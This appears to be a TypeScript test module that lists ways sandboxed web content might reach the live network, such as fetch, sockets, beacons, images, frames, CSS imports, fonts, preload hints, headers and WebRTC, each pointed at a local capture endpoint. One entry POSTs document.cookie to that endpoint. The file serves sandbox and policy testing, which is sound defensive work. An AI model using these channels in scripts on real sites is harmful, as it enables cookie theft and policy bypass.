// Attempts to reach the live web by a request.

import { type Escape, type Surroundings, trials } from './escape.ts'

export function requestEscapes(around: Surroundings): Escape[] {
  return [
    ...byScript(around),
    ...byElement(around),
    ...byStyle(around),
    ...byHint(around),
    ...byHeader(around),
  ]
}

function byScript(around: Surroundings): Escape[] {
  return trials(around, {
    fetch: 'fetch(caught(), { mode: "no-cors" })',
    'fetch-post': 'fetch(caught(), { method: "POST", mode: "no-cors", body: document.cookie })',
    'fetch-keepalive': 'fetch(caught(), { keepalive: true, mode: "no-cors" })',
    'fetch-fresh': 'fresh().fetch(caught(), { mode: "no-cors" })',
    'fetch-request': 'fetch(new Request(caught()))',
    request: `
      var request = new XMLHttpRequest()
      request.open('GET', caught())
      request.send()`,
    'request-fresh': `
      var request = new (fresh().XMLHttpRequest)()
      request.open('GET', caught())
      request.send()`,
    socket: `new WebSocket('${around.live.replace('http', 'ws')}/caught/socket')`,
    'socket-fresh': `new (fresh().WebSocket)('${around.live.replace('http', 'ws')}/caught/socket-fresh')`,
    'event-source': "new EventSource(caught('.events'))",
    worklet: "CSS.paintWorklet.addModule(caught('.js')).catch(function () {})",
    beacon: 'navigator.sendBeacon(caught(), "x")',
    'beacon-fresh': 'fresh().navigator.sendBeacon(caught(), "x")',
    import: "import(caught('.js')).catch(function () {})",
    'web-transport': `new WebTransport('https://127.0.0.1:${around.datagramPort('web-transport')}/')`,
    'peer-connection': `
      var connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${around.datagramPort('peer-connection')}' }] })
      connection.createDataChannel('x')
      connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer) })`,
    'peer-connection-fresh': `
      var connection = new (fresh().RTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:${around.datagramPort('peer-connection-fresh')}' }] })
      connection.createDataChannel('x')
      connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer) })`,
  })
}

function byElement(around: Surroundings): Escape[] {
  const { live } = around
  const made = (element: string, property: string, ending: string) => `
    var element = document.createElement('${element}')
    element.${property} = caught('${ending}')
    document.body.appendChild(element)`
  return trials(around, {
    image: "new Image().src = caught('.png')",
    'image-markup': { body: `<img src="${live}/caught/image-markup.png">` },
    'image-fresh': "new (fresh().Image)().src = caught('.png')",
    'image-set': `
      var image = new Image()
      image.srcset = caught('.png') + ' 1x'`,
    'image-node': `
      var attribute = document.createAttribute('src')
      attribute.value = caught('.png')
      var image = document.createElement('img')
      image.setAttributeNode(attribute)`,
    'image-parsed': `
      var parsed = new DOMParser().parseFromString('<img src="' + caught('.png') + '">', 'text/html')
      document.body.appendChild(parsed.body.firstChild)`,
    'image-copied': `
      var range = document.createRange()
      range.selectNode(document.body)
      document.body.appendChild(range.createContextualFragment('<img src="' + caught('.png') + '">'))`,
    'image-shadow': `
      var shadow = document.body.attachShadow({ mode: 'closed' })
      shadow.innerHTML = '<img src="' + caught('.png') + '">'`,
    'image-written': `document.write('<img src="' + caught('.png') + '">')`,
    'image-unsafe': `document.body.setHTMLUnsafe('<img src="' + caught('.png') + '">')`,
    script: made('script', 'src', '.js'),
    'script-module': { body: `<script type="module">import '${live}/caught/script-module.js'</script>` },
    frame: made('iframe', 'src', '.html'),
    object: made('object', 'data', '.svg'),
    'object-markup': {
      body: `<object data="${live}/caught/object-markup.svg" type="image/svg+xml"></object>`,
    },
    embed: made('embed', 'src', '.svg'),
    audio: made('audio', 'src', '.wav'),
    video: made('video', 'poster', '.png'),
    'input-image': { body: `<input type="image" src="${live}/caught/input-image.png">` },
    'svg-image': `
      document.body.innerHTML = '<svg><image width="9" height="9"/></svg>'
      document.querySelector('image').setAttributeNS('http://www.w3.org/1999/xlink', 'href', caught('.png'))`,
    'svg-filter': {
      body: `<svg><filter id="f"><feImage href="${live}/caught/svg-filter.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    },
  })
}

function byStyle(around: Surroundings): Escape[] {
  const { live } = around
  return trials(around, {
    'style-sheet': { head: `<link rel="stylesheet" href="${live}/caught/style-sheet.css">` },
    'style-import': { head: `<style>@import "${live}/caught/style-import.css";</style>` },
    'style-import-made': `
      var style = document.createElement('style')
      style.appendChild(document.createTextNode('@import url(' + caught('.css') + ')'))
      document.head.appendChild(style)`,
    'style-escaped': {
      head: `<style>b { background: \\75rl(${live}/caught/style-escaped.png) }</style>`,
      body: '<b>x</b>',
    },
    'style-image-set': {
      head: `<style>b { background: image-set("${live}/caught/style-image-set.png" 1x) }</style>`,
      body: '<b>x</b>',
    },
    'style-rule': {
      head: '<style id="s"></style>',
      body: '<b>x</b>',
      script: `document.getElementById('s').sheet.insertRule('b { background: url(' + caught('.png') + ') }')`,
    },
    'style-property': "document.body.style.setProperty('background', 'url(' + caught('.png') + ')')",
    'style-adopted': `
      var sheet = new CSSStyleSheet()
      sheet.replaceSync('body { background: url(' + caught('.png') + ') }')
      document.adoptedStyleSheets = [sheet]`,
    'style-map': "document.body.attributeStyleMap.set('background-image', 'url(' + caught('.png') + ')')",
    font: "new FontFace('x', 'url(' + caught('.ttf') + ')').load().catch(function () {})",
  })
}

function byHint(around: Surroundings): Escape[] {
  const { live } = around
  const link = (attributes: string, name: string, ending: string) => ({
    head: `<link ${attributes} href="${live}/caught/${name}${ending}">`,
  })
  const made = (attributes: string, ending: string) => `
    var link = document.createElement('link')
    Object.assign(link, ${attributes})
    link.href = caught('${ending}')
    document.head.appendChild(link)`
  return trials(around, {
    prefetch: link('rel="prefetch"', 'prefetch', '.html'),
    'prefetch-made': made("{ rel: 'prefetch' }", '.html'),
    preload: link('rel="preload" as="image"', 'preload', '.png'),
    'preload-made': made("{ rel: 'preload', as: 'script' }", '.js'),
    'module-preload': link('rel="modulepreload"', 'module-preload', '.js'),
  })
}

function byHeader(around: Surroundings): Escape[] {
  const { live } = around
  return trials(around, {
    'link-header': { headers: { Link: `<${live}/caught/link-header.png>; rel=preload; as=image` } },
    'report-header': {
      headers: {
        'Content-Security-Policy-Report-Only': `img-src 'none'; report-uri ${live}/caught/report-header`,
      },
      body: '<img src="/escape/report-header/picture.png">',
    },
  })
}
